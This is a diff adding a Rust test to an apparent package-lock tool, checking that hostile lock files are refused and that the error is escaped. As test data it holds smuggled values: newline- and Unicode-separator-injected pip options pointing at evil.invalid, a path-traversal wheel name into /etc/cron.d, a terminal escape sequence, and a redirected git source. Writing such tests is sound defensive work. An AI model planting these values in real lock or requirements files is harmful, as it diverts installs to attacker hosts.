@@ -238,3 +238,99 @@ fn lock_check_exits_4_when_the_lock_is_out_of_date() {
     let output = check(&old, &["--lock", "/nonexistent/m.lock.json"]);
     assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
 }
+
+/// A lock is input like a manifest: every value goes through its type's checks when
+/// read, and a refused one is named with its line and column, escaped. `plan --lock`
+/// and `export` read it through the same reader. A lock that records the manifest's
+/// digest but builds another git source than the manifest names is refused too.
+///
+/// See: issue 33 — a newline in a lock's version put pip options into root's
+/// requirements file; an empty or non-hex digest was exported as it was.
+#[test]
+fn hostile_locks_are_refused_where_they_are_read() {
+    let dir = tempfile::tempdir().unwrap();
+    let (manifest, _, lock) = locked(dir.path());
+    let good: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&lock).unwrap()).unwrap();
+    let cases: [(&str, &dyn Fn(&mut serde_json::Value)); 9] = [
+        ("version", &|lock| {
+            lock["packages"][0]["version"] =
+                "2.9.1\n--extra-index-url https://evil.invalid/simple".into()
+        }),
+        ("name", &|lock| {
+            lock["packages"][0]["name"] = "torch\u{2028}-e git+https://evil.invalid/x".into()
+        }),
+        ("file", &|lock| {
+            lock["packages"][0]["file"] = "../../etc/cron.d/torch-2.9.1-py3-none-any.whl".into()
+        }),
+        ("file escape", &|lock| {
+            lock["packages"][0]["file"] = "torch-2.9.1-py3-none-\u{1b}[2Jany.whl".into()
+        }),
+        ("empty digest", &|lock| {
+            lock["packages"][0]["sha256"] = "".into()
+        }),
+        ("non-hex digest", &|lock| {
+            lock["packages"][0]["sha256"] = "z".repeat(64).into()
+        }),
+        ("manifest name", &|lock| {
+            lock["manifest"] = "m\u{85}--trusted-host evil.invalid".into()
+        }),
+        ("index", &|lock| {
+            lock["packages"][0]["index"] = "local\n-r https://evil.invalid/r.txt".into()
+        }),
+        ("manifest digest", &|lock| {
+            lock["manifest_sha256"] = "aa".into()
+        }),
+    ];
+    for (what, edit) in cases {
+        let mut hostile = good.clone();
+        edit(&mut hostile);
+        let text = serde_json::to_string_pretty(&hostile).unwrap();
+        std::fs::write(&lock, &text).unwrap();
+        for output in [
+            on_h200("plan", &manifest, &["--lock", lock.to_str().unwrap()]),
+            upgrade(&[
+                "export",
+                lock.to_str().unwrap(),
+                "--manifest",
+                manifest.to_str().unwrap(),
+                "--format",
+                "requirements-txt",
+            ]),
+        ] {
+            assert_eq!(output.status.code(), Some(2), "{what}: {}", stdout(&output));
+            let error = stderr(&output);
+            assert!(error.contains("at line "), "{what}: {error}");
+            assert!(
+                !error.contains(['\u{1b}', '\u{2028}', '\u{85}']) && !error.contains("\n--"),
+                "{what}: {error}"
+            );
+            assert!(stdout(&output).is_empty(), "{what}");
+        }
+    }
+    // The manifest's digest, but another git source than the manifest's.
+    let git_manifest = venv_manifest(
+        dir.path(),
+        "g",
+        "indexes:\n  - name: local\n    url: http://127.0.0.1:9/simple/\npackages:\n  torch: \">=2.9\"\n  app: { git: \"https://example.invalid/app\", rev: v1.0, version: \"1.0\" }\n",
+    );
+    let git_lock = dir.path().join("g.lock.json");
+    let mut hostile = good.clone();
+    hostile["manifest_sha256"] = hex_sha256(&std::fs::read(&git_manifest).unwrap()).into();
+    hostile["packages"].as_array_mut().unwrap().push(
+        serde_json::json!({"name": "app", "version": "1.0", "source": "git",
+            "url": "https://evil.invalid/app", "rev": "v1.0"}),
+    );
+    std::fs::write(&git_lock, serde_json::to_string(&hostile).unwrap()).unwrap();
+    let output = on_h200(
+        "plan",
+        &git_manifest,
+        &["--lock", git_lock.to_str().unwrap()],
+    );
+    assert_eq!(output.status.code(), Some(2), "{}", stdout(&output));
+    let error = stderr(&output);
+    assert!(
+        error.contains("builds `app` from `https://evil.invalid/app`"),
+        "{error}"
+    );
+}
